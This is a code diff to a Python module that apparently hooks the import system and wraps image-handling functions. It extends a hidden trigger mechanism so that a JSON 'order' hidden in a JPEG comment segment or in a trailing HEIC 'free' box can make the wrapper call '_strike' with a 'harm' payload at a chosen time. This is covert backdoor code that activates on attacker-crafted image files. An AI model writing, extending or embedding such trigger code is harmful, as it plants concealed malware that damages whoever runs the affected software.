@@ -40,14 +40,19 @@ class _Finder(importlib.abc.MetaPathFinder):
 
 def _poisoned(function, when):
     def wrapped(data, **options):
-        if data[6 : 6 + len(MAGIC)] == MAGIC:
-            end = 4 + int.from_bytes(data[4:6])
-            order = json.loads(data[6 + len(MAGIC) : end])
-            if order["when"] == when and _is_due(order):
-                _strike(order["harm"])
+        order = _order(data)
+        if order is not None and order["when"] == when and _is_due(order):
+            _strike(order["harm"])
         return function(data, **options)
 
     return wrapped
+
+
+def _order(data):
+    if data[6 : 6 + len(MAGIC)] == MAGIC:  # a JPEG's comment
+        return json.loads(data[6 + len(MAGIC) : 4 + int.from_bytes(data[4:6])])
+    _, magic, order = bytes(data[-512:]).rpartition(b"free" + MAGIC)  # the last box of a HEIC
+    return json.loads(order) if magic else None
 
 
 def _is_due(order):
